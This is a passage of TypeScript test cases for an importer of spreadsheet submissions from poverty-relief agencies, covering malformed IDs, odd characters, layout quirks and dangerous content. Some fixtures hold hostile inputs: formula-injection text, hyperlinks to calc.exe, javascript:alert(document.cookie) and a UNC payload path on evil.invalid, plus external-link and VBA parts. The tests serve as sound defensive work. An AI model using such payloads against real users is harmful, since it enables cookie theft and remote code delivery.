            data: `<connections xmlns="${MAIN}"><connection id="1" name="web" type="4"><webPr url="http://example.invalid/"/></connection></connections>`,
          },
          { name: "xl/vbaProject.bin", data: strToU8('Attribute VB_Name = "Module1"') },
          { name: "xl/embeddings/oleObject1.bin", data: oleFile(["\u0001Ole10Native"]) },
        ]),
        {
          "xl/_rels/workbook.xml.rels": replaceIn(
            "</Relationships>",
            `<Relationship Id="rIdX" Type="${REL}/externalLink" Target="externalLinks/externalLink1.xml"/><Relationship Id="rIdC" Type="${REL}/connections" Target="connections.xml"/><Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>`,
          ),
          "xl/workbook.xml": replaceIn(
            "</sheets>",
            '</sheets><externalReferences><externalReference r:id="rIdX"/></externalReferences>',
          ),
        },
      ),
    expect: { status: "accepted" },
  },

  // Text that a spreadsheet would take for a formula, and links to dangerous places.
  {
    name: "formula-like-text",
    about: "text starting with = + - @ tab CR and full-width ＝＋－＠ in text fields",
    build: (seed) =>
      submission(seed, (c) => {
        const t = FORMULA_LIKE_TEXT;
        c.tables.funds[0]!.note = t.note;
        c.tables.funds[0]!.funder = t.funder;
        c.tables.projects[0]!.name = t.name;
        c.tables.households[0]!.cadre = t.cadre;
        const activity = c.tables.activities[0]!;
        c.tables.activities = [
          t.description,
          t.description2,
          t.description3,
          t.description4,
          t.description5,
          t.description6,
        ].map((description) => ({ ...activity, description }));
      }),
    expect: {
      status: "accepted",
      without: ["formula"],
      rows: { activities: { read: 6, merged: 6 }, funds: { merged: 1 }, projects: { merged: 1 } },
      check: (f) => {
        expect(f.read.tables.activities!.rows.map((r) => r.values.description)).toEqual([
          "@SUM(1)",
          "=1+1",
          "+1",
          "-1",
          "@A1",
          "=2",
        ]);
      },
    },
  },
  {
    name: "dangerous-hyperlinks",
    about: "cells linked to file:, javascript: and a UNC path: the text is read, the link is not",
    build: (seed) =>
      submission(seed, undefined, (wb) => {
        wb.getWorksheet("资金投入")!.getCell(cellOf("funds", "note")).value = {
          text: "附件一",
          hyperlink: "file:///C:/Windows/System32/calc.exe",
        };
        wb.getWorksheet("帮扶项目")!.getCell(cellOf("projects", "name")).value = {
          text: "光伏电站",
          hyperlink: "javascript:alert(document.cookie)",
        };
        wb.getWorksheet("帮扶活动")!.getCell(cellOf("activities", "description")).value = {
          text: "通知",
          hyperlink: "\\\\evil.invalid\\share\\payload.xlsx",
        };
      }),
    expect: {
      status: "accepted",
      check: (f) => {
        expect(f.read.tables.funds!.rows[0]!.values.note).toBe("附件一");
        expect(f.read.tables.activities!.rows[0]!.values.description).toBe("通知");
      },
    },
  },

  // ID numbers as staff type them.
  {
    name: "id-as-number",
    about: "an ID number typed as a number (its last digits already lost)",
    build: (seed) =>
      submission(seed, (c) => {
        c.tables.households[1]!.id_number = Number(idEndingInDigit(seed * 10 + 1));
      }),
    expect: {
      status: "accepted",
      issues: [["households", cellOf("households", "id_number", 1), "type", "id-as-number"]],
      rows: { households: { read: 2, merged: 1, rejected: 1 } },
    },
  },
  {
    name: "id-full-width",
    about: "an ID number in full-width digits",
    build: (seed) =>
      submission(seed, (c) => {
        const id = String(c.tables.households[0]!.id_number);
        c.tables.households[0]!.id_number = id.replace(/\d/g, (d) =>
          String.fromCharCode(0xff10 + Number(d)),
        );
      }),
    expect: {
      status: "accepted",
      rows: { households: { read: 2, merged: 2 } },
      check: (f) =>
        expect(f.read.tables.households!.rows[0]!.values.id_number).toMatch(/^\d{17}[\dX]$/),
    },
  },
  {
    name: "id-lower-case-x",
    about: "an ID number whose check character X is typed as x",
    build: (seed) =>
      submission(seed, (c) => {
        c.tables.households[0]!.id_number = idWithCheckX(seed * 10 + 2).toLowerCase();
      }),
    expect: {
      status: "accepted",
      issues: [["households", cellOf("households", "id_number", 0), "normalized"]],
      rows: { households: { read: 2, merged: 2 } },
      check: (f) => expect(f.read.tables.households!.rows[0]!.values.id_number).toMatch(/X$/),
    },
  },
  {
    name: "id-invisible-characters",
    about: "ID numbers with a zero-width space inside, a BOM before and a no-break space after",
    build: (seed) =>
      submission(seed, (c) => {
        const [a, b] = c.tables.households.map((h) => String(h.id_number));
        c.tables.households[0]!.id_number = `${a!.slice(0, 6)}\u200b${a!.slice(6)}`;
        c.tables.households[1]!.id_number = `\ufeff${b!}\u00a0`;
      }),
    expect: {
      status: "accepted",
      rows: { households: { read: 2, merged: 2 } },
      check: (f) =>
        f.read.tables.households!.rows.forEach((r) =>
          expect(r.values.id_number).toMatch(/^\d{17}[\dX]$/),
        ),
    },
  },

  // Characters XML or Excel cannot hold.
  {
    name: "control-characters",
    about: "_x0001_ / _x001F_ escapes, a raw U+FFFE and a lone surrogate escape in text cells",
    build: async (seed) =>
      patch(
        await submission(seed, (c) => {
          c.tables.funds[0]!.note = "NOTE-PLACEHOLDER";
          c.tables.households[0]!.cadre = "CADRE-PLACEHOLDER";
        }),
        {
          "xl/sharedStrings.xml": (xml) =>
            xml!
              .replace("NOTE-PLACEHOLDER", "备_x0001_注_x001F_\uFFFE完")
              .replace("CADRE-PLACEHOLDER", "王_xD800_五\u0007"),
        },
      ),
    expect: {
      status: "accepted",
      rows: { funds: { merged: 1 }, households: { merged: 2 } },
      check: (f) => expect(f.read.tables.funds!.rows[0]!.values.note).toContain("\u0001"),
    },
  },
  {
    name: "cell-over-32767",
    about: "a note of 40,000 characters (over Excel's cell limit and the 200-character bound)",
    build: (seed) =>
      submission(seed, (c) => {
        c.tables.funds[0]!.note = "长".repeat(40_000);
      }),
    expect: {
      status: "accepted",
      issues: [["funds", cellOf("funds", "note"), "range", "text-length"]],
      rows: { funds: { read: 1, rejected: 1 } },
    },
  },
  {
    name: "number-edge-values",
    about: "<v>1e400</v>, <v>NaN</v>, <v>-0</v> and <v>Infinity</v> in number cells",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.households]: (xml) =>
          [
            [HOUSEHOLDS_ROW1("household_size"), "1e400"],
            [HOUSEHOLDS_ROW1("income_per_capita"), "NaN"],
            [cellOf("households", "household_size", 1), "-0"],
            [cellOf("households", "income_per_capita", 1), "Infinity"],
          ].reduce((x, [ref, v]) => replaceCell(ref!, `<c r="${ref}"><v>${v}</v></c>`)(x), xml!),
      }),
    expect: {
      status: "accepted",
      issues: [
        ["households", HOUSEHOLDS_ROW1("household_size"), "type"],
        ["households", HOUSEHOLDS_ROW1("income_per_capita"), "type"],
        ["households", cellOf("households", "household_size", 1), "range"],
        ["households", cellOf("households", "income_per_capita", 1), "type"],
      ],
      rows: { households: { read: 2, merged: 0, rejected: 2 } },
    },
  },
  {
    name: "error-values",
    about: "#DIV/0! and #N/A error cells in number fields",
    build: (seed) =>
      submission(seed, undefined, (wb) => {
        wb.getWorksheet("资金投入")!.getCell(cellOf("funds", "amount")).value = {
          error: "#DIV/0!",
        };
        wb.getWorksheet("帮扶项目")!.getCell(cellOf("projects", "investment")).value = {
          error: "#N/A",
        };
      }),
    expect: {
      status: "accepted",
      issues: [
        ["funds", cellOf("funds", "amount"), "type", "error-value"],
        ["projects", cellOf("projects", "investment"), "type", "error-value"],
      ],
      rows: { funds: { read: 1, rejected: 1 }, projects: { read: 1, rejected: 1 } },
    },
  },
  {
    name: "cell-at-last-address",
    about: "one value at XFD1048576 on the villages and households sheets",
    build: async (seed) =>
      patch(await submission(seed), {
        [PART.villages]: replaceIn(
          "</sheetData>",
          `<row r="1048576">${'<c r="XFD1048576"><v>1</v></c>'}</row></sheetData>`,
        ),
        [PART.households]: replaceIn(
          "</sheetData>",
          `<row r="1048576">${'<c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c>'}</row></sheetData>`,
        ),
      }),
    expect: {
      status: "accepted",
      rows: { villages: { read: 1, merged: 1 }, households: { read: 2, merged: 2 } },
    },
  },
  {
    name: "far-column-cells",
    about: "5,000 rows with one value each in column XFD, past every header (a 30 KB file)",
    build: async (seed) => {
      let rows = "";
      for (let r = 10; r < 5010; r++) rows += `<row r="${r}"><c r="XFD${r}"><v>1</v></c></row>`;
      return patch(await submission(seed), {
        [PART.households]: replaceIn("</sheetData>", `${rows}</sheetData>`),
      });
    },
    expect: { status: "accepted", rows: { households: { read: 2, merged: 2 } } },
  },

  // Layout staff produce.
  {
    name: "merged-data-cells",
    about:
      "district merged down two village rows (text fills), amount merged down two funds rows (counts once)",
    build: (seed) =>
      submission(
        seed,
        (c) => {
          const v = c.tables.villages[0]!;
          c.tables.villages = [
            v,
            { ...v, village_code: "420116008204", village_name: "青云村", township: "王家河街道" },
          ];
          const f = c.tables.funds[0]!;
          c.tables.funds = [f, { ...f, date: "2018-06-10" }];
        },
        (wb) => {
          const villages = wb.getWorksheet("帮扶村")!;
          villages.getCell(cellOf("villages", "district", 1)).value = null;
          villages.mergeCells(
            `${cellOf("villages", "district", 0)}:${cellOf("villages", "district", 1)}`,
          );
          const funds = wb.getWorksheet("资金投入")!;
          funds.getCell(cellOf("funds", "amount", 1)).value = null;
          funds.mergeCells(`${cellOf("funds", "amount", 0)}:${cellOf("funds", "amount", 1)}`);
        },
      ),
    expect: {
      status: "accepted",
      issues: [["funds", cellOf("funds", "amount", 1), "required"]],
      rows: { villages: { read: 2, merged: 2 }, funds: { read: 2, merged: 1, rejected: 1 } },
      check: (f) =>
        expect(f.read.tables.villages!.rows.map((r) => r.values.district)).toEqual([
          "黄陂区",
          "黄陂区",
        ]),
    },
  },
  {
    name: "hidden-sheets",
    about:
      "报送信息 and 帮扶村 hidden, 贫困户 very hidden: sheets are found by name, whatever their visibility",
    build: async (seed) =>
      patch(await submission(seed), {
        "xl/workbook.xml": (xml) =>
          xml!
            .replace('name="报送信息" state="visible"', 'name="报送信息" state="hidden"')
            .replace('name="帮扶村" state="visible"', 'name="帮扶村" state="hidden"')
            .replace('name="贫困户" state="visible"', 'name="贫困户" state="veryHidden"'),
      }),
    expect: {
      status: "accepted",
      rows: { villages: { merged: 1 }, households: { read: 2, merged: 2 } },
    },
  },
  {
    name: "same-file-twice",
    about: "one file submitted twice under two names (same SHA-256): counted once",
    copies: 2,
    build: (seed) => submission(seed),
    expect: {
      status: ["accepted", "superseded"],
      rows: { households: { read: 2, merged: 2 } },
    },
  },
  {
    name: "tie-different-content",
    about: "two different files of one agency with the same submitted_on: neither counts",
    copies: 2,
    build: (seed, copy) =>
      submission(seed, (c) => {
        c.tables.funds[0]!.note = `第${copy + 1}版`;
      }),
    expect: { status: ["rejected", "rejected"], rows: { funds: { read: 1, rejected: 1 } } },
  },
  {
    name: "other-period",
    about: "a submission for 2019 in a merge of 2018",
    build: (seed) =>
      submission(seed, (c) => {
        c.form.period = "2019";
        c.form.submitted_on = "2019-12-20";
      }),
    expect: { status: "rejected", rows: { households: { read: 2, rejected: 2 } } },
  },
  {
    name: "no-sheets",
    about: "a workbook part with an empty <sheets/>",
    build: async (seed) =>
      patch(await submission(seed), {
        "xl/workbook.xml": (xml) => xml!.replace(/<sheets>.*<\/sheets>/, "<sheets/>"),
      }),
    expect: {
      status: "rejected",
      issues: [
        ["submission", null, "sheet-missing"],
        ["villages", null, "sheet-missing"],
      ],
    },
  },
  {
    name: "sheet-part-missing",
    about: "the funds sheet's relationship points to a part the package lacks",
    build: async (seed) => patch(await submission(seed), { [PART.funds]: null }),
    expect: {
      status: "accepted",
      issues: [["funds", null, "sheet-missing"]],
      rows: { villages: { merged: 1 }, funds: { read: 0 }, households: { merged: 2 } },
    },
  },
  {
    name: "villages-part-missing",
    about: "the villages sheet's relationship points to a part the package lacks",
    build: async (seed) => patch(await submission(seed), { [PART.villages]: null }),
    expect: {
      status: "rejected",
      issues: [["villages", null, "sheet-missing"]],
      rows: { households: { read: 2, merged: 0 } },
    },
  },
  {
    name: "template-filled",
    about: "the generated template, filled in (the baseline of the next case)",
    build: (seed) => filledTemplate(seed),
    expect: { status: "accepted", rows: { villages: { merged: 1 }, households: { merged: 2 } } },
  },
  {
    name: "template-whole-column-dropdowns",
    about:
      "the filled template with every dropdown and check stretched to whole columns (A1:A1048576)",
    build: (seed) => templateWithWholeColumnDropdowns(seed),
    expect: { status: "accepted", rows: { villages: { merged: 1 }, households: { merged: 2 } } },
  },
];

/** Two ordinary submissions merged with the corpus: their rows must all be merged. */
export const GOOD: readonly CorpusCase[] = [
  {
    name: "good-1",
    about: "a valid submission",
    build: (seed) => submission(seed),
    expect: { status: "accepted" },
  },
  {
    name: "good-2",
    about: "a valid submission of another agency",
    build: (seed) => filledTemplate(seed),
    expect: { status: "accepted" },
  },
];

/** Seed of a case's content: distinct agency codes and ID numbers for every file. */
export function seedOf(index: number): number {
  return 100 + index;
}

/** The file names of a case, one per copy. */
export function fileNames(c: CorpusCase): string[] {
  const copies = c.copies ?? 1;
  return copies === 1
    ? [`${c.name}.xlsx`]
    : Array.from({ length: copies }, (_, i) => `${c.name}-${i + 1}.xlsx`);
}
